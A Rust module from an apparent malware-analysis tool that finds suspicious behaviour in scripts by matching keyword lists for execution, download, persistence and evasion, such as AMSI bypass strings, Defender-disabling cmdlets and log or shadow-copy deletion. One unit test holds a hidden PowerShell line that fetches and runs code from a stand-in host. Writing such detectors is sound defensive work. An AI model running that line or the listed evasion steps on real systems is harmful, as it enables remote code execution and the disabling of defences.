//! What code does, by the calls and programs that it names.
//!
//! Honest scripts start programs and fetch files as well: these are facts about code, and what they are worth depends on how it came.

use aho_corasick::{AhoCorasick, MatchKind};
use creel_evidence::dissection::FeatureKind;
use std::collections::HashSet;
use std::ops::Range;
use std::sync::LazyLock;

/// Deeds of one kind that are told.
const TOLD: usize = 5;

/// A deed and the place that shows it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Deed {
    pub(super) kind: FeatureKind,
    /// What is named.
    pub(super) word: &'static str,
    pub(super) at: Range<usize>,
}

/// Names of calls and programs, in lower case. Where one begins another, the longer stands first. A name that begins or ends with a
/// letter is one only if no letter goes on there.
const WORDS: &[(FeatureKind, &[&str])] = &[
    (
        FeatureKind::Execution,
        &[
            "wscript.shell",
            "shell.application",
            "shellexecute",
            "start-process",
            "invoke-expression",
            "iex",
            "win32_process",
            "rundll32",
            "regsvr32",
            "mshta",
            "powershell",
            "pwsh",
            "cmd.exe /c",
            "cmd /c",
            "%comspec%",
            "msiexec",
            "installutil",
            "regasm",
            "msbuild",
            "forfiles",
            "pcalua",
            "conhost",
            "wmic",
            "osascript",
            "bash -c",
            "sh -c",
            "[reflection.assembly]::load",
            "execute(",
            "executeglobal",
        ],
    ),
    (
        FeatureKind::Download,
        &[
            "msxml2.serverxmlhttp",
            "msxml2.xmlhttp",
            "microsoft.xmlhttp",
            "winhttp.winhttprequest",
            "adodb.stream",
            "downloadfile",
            "downloadstring",
            "downloaddata",
            "net.webclient",
            "invoke-webrequest",
            "invoke-restmethod",
            "iwr",
            "irm",
            "start-bitstransfer",
            "bitsadmin",
            "-urlcache",
            "urldownloadtofile",
            "curl",
            "wget",
        ],
    ),
    (
        FeatureKind::Persistence,
        &[
            "\\currentversion\\run",
            "schtasks",
            "register-scheduledtask",
            "\\programs\\startup",
            "shell:startup",
            "__eventfilter",
            "crontab",
            "launchagents",
        ],
    ),
    (
        FeatureKind::Evasion,
        &[
            "-windowstyle hidden",
            "-w hidden",
            "-w h",
            "-executionpolicy bypass",
            "-exec bypass",
            "-ep bypass",
            "amsiutils",
            "amsiinitfailed",
            "amsiscanbuffer",
            "add-mppreference",
            "set-mppreference",
            "disablerealtimemonitoring",
            "virtualalloc",
            "vssadmin delete",
            "wevtutil cl",
        ],
    ),
];

static AUTOMATON: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let words = WORDS.iter().flat_map(|(_, words)| words.iter());
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .match_kind(MatchKind::LeftmostLongest)
        .build(words)
        .ok()
});

/// The deeds of a code, each name once.
pub(super) fn find(text: &str) -> Vec<Deed> {
    let Some(automaton) = AUTOMATON.as_ref() else { return Vec::new() };
    let all: Vec<(FeatureKind, &'static str)> =
        WORDS.iter().flat_map(|(kind, words)| words.iter().map(|word| (*kind, *word))).collect();
    let mut seen = HashSet::new();
    let mut deeds: Vec<Deed> = Vec::new();
    for found in automaton.find_iter(text) {
        let Some(&(kind, word)) = all.get(found.pattern().as_usize()) else { continue };
        if !stands_alone(text, found.range()) || !seen.insert(word) {
            continue;
        }
        if deeds.iter().filter(|deed| deed.kind == kind).count() < TOLD {
            deeds.push(Deed { kind, word, at: found.range() });
        }
    }
    deeds
}

/// Whether no word goes on at either end.
fn stands_alone(text: &str, at: Range<usize>) -> bool {
    let is_word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    let inside = text.get(at.clone()).unwrap_or_default();
    let before = text.get(..at.start).and_then(|head| head.chars().next_back());
    let after = text.get(at.end..).and_then(|rest| rest.chars().next());
    let is_cut_before = is_word(before) && is_word(inside.chars().next());
    let is_cut_after = is_word(after) && is_word(inside.chars().next_back());
    !is_cut_before && !is_cut_after
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(text: &str) -> Vec<&'static str> {
        find(text).into_iter().map(|deed| deed.word).collect()
    }

    #[test]
    fn calls_are_found_as_words() {
        let text = "Set s = CreateObject(\"WScript.Shell\"): s.Run \"PowerShell -w hidden -c IEX(irm https://a.example)\"";
        assert_eq!(words(text), ["wscript.shell", "powershell", "-w hidden", "iex", "irm"]);
        for deed in find(text) {
            assert!(text[deed.at].eq_ignore_ascii_case(deed.word));
        }
    }

    #[test]
    fn parts_of_words_are_none() {
        assert_eq!(
            words("The curling team's firmware; Alexiex; sirms. execute the plan"),
            Vec::<&str>::new()
        );
    }

    #[test]
    fn words_are_written_as_they_are_searched() {
        for (_, list) in WORDS {
            assert!(list.iter().all(|word| *word == word.to_ascii_lowercase()));
        }
    }
}
